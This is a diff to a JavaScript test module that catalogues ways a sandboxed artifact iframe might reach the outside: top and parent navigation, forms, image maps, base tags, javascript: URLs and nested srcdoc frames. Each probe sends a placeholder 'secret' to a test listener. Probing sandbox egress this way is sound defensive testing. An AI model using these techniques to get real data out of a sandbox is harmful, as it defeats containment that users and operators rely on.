@@ -3,7 +3,7 @@
 //
 // This file is source that is put into an artifact: it imports nothing. `roads(to)` gives the probes; each tries its road
 // once, and leaves its own name in whatever arrives. What a probe throws means that the browser refused. to: http, ws,
-// udp, tcp: where somebody listens ("127.0.0.1:9000"), library: the address of a file that the frame may load.
+// udp, tcp: where somebody listens ("127.0.0.1:9000", or with a path).
 
 /** What a frame of an artifact may try before it is anywhere else. */
 export function roads(to) {
@@ -51,6 +51,11 @@ export function roads(to) {
     const blank = add("iframe", given);
     blank.contentWindow.document.write(page);
   };
+  const program = document.querySelector('script[type="module"][src]')?.src ?? "about:blank";
+  const library = new URL(
+    JSON.parse(document.querySelector('script[type="importmap"]')?.textContent ?? "null")?.imports.d3 ?? "about:blank",
+    location.href,
+  ).href;
   const run = (code) => import(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
 
   return {
@@ -238,7 +243,7 @@ export function roads(to) {
     },
     /** The frame's own program, asked to run code in a frame inside, where the doors might be open. */
     frame_own_program: () => {
-      const made = add("iframe", { srcdoc: `<script type="module" crossorigin src="${to.program}"></script>` });
+      const made = add("iframe", { srcdoc: `<script type="module" crossorigin src="${program}"></script>` });
       const channel = new MessageChannel();
       channel.port1.onmessage = ({ data }) => {
         if (data.type !== "ready") return;
@@ -259,7 +264,7 @@ export function roads(to) {
     },
     frame_library_in_srcdoc: () =>
       add("iframe", {
-        srcdoc: `<script src="${to.library}"></script><script src="${http("frame_library_in_srcdoc")}"></script>`,
+        srcdoc: `<script src="${library}"></script><script src="${http("frame_library_in_srcdoc")}"></script>`,
       }),
 
     // going elsewhere
@@ -267,23 +272,6 @@ export function roads(to) {
     window_open_noopener: () => window.open(http("window_open_noopener"), "_blank", "noopener"),
     link_blank: () => add("a", { href: http("link_blank"), target: "_blank", rel: "noopener" }).click(),
     link_ping: () => add("a", { href: "#x", ping: http("link_ping") }).click(),
-    link_top: () => add("a", { href: http("link_top"), target: "_top" }).click(),
-    link_parent: () => add("a", { href: http("link_parent"), target: "_parent" }).click(),
-    link_download: () => add("a", { href: http("link_download"), download: "x" }).click(),
-    area: () => {
-      put(`<map name="m1"><area id="area1" href="${http("area")}" shape="default" target="_blank"></map>`);
-      document.getElementById("area1").click();
-    },
-    form_get: () => add("form", { action: http("form_get") }).submit(),
-    form_post: () => add("form", { action: http("form_post"), method: "post", target: "_blank" }).submit(),
-    form_button: () => {
-      put(`<form><button id="b1" formaction="${http("form_button")}">x</button></form>`);
-      document.getElementById("b1").click();
-    },
-    top_location: () => {
-      window.top.location = http("top_location");
-    },
-    top_replace: () => window.parent.location.replace(http("top_replace")),
     base: () => {
       add("base", { href: `http://${to.http}/` }, document.head);
       add("img", { src: "base?d=secret" });
@@ -343,9 +331,20 @@ export function roads(to) {
   };
 }
 
-/** What ends the document that tries it: each has a frame to itself. */
+/** What may end the document that tries it: each has a frame to itself. */
 export function leavings(to) {
   const http = (name) => `http://${to.http}/${name}?d=secret`;
+  const put = (html) => {
+    const box = document.createElement("div");
+    box.innerHTML = html;
+    document.body.append(box);
+  };
+  const add = (tag, given) => {
+    const made = document.createElement(tag);
+    for (const [name, value] of Object.entries(given)) made.setAttribute(name, value);
+    document.body.append(made);
+    return made;
+  };
   return {
     location: () => {
       location.href = http("location");
@@ -381,6 +380,23 @@ export function leavings(to) {
     to_javascript: () => {
       location.href = `javascript:'<img src="${http("to_javascript")}">'`;
     },
+    link_top: () => add("a", { href: http("link_top"), target: "_top" }).click(),
+    link_parent: () => add("a", { href: http("link_parent"), target: "_parent" }).click(),
+    link_download: () => add("a", { href: http("link_download"), download: "x" }).click(),
+    area: () => {
+      put(`<map name="m1"><area id="area1" href="${http("area")}" shape="default" target="_blank"></map>`);
+      document.getElementById("area1").click();
+    },
+    form_get: () => add("form", { action: http("form_get") }).submit(),
+    form_post: () => add("form", { action: http("form_post"), method: "post", target: "_blank" }).submit(),
+    form_button: () => {
+      put(`<form><button id="b1" formaction="${http("form_button")}">x</button></form>`);
+      document.getElementById("b1").click();
+    },
+    top_location: () => {
+      window.top.location = http("top_location");
+    },
+    top_replace: () => window.parent.location.replace(http("top_replace")),
     /** Back to the frame's own address, from which a page that is asked again might be let go unsealed. */
     reload: () => location.reload(),
   };
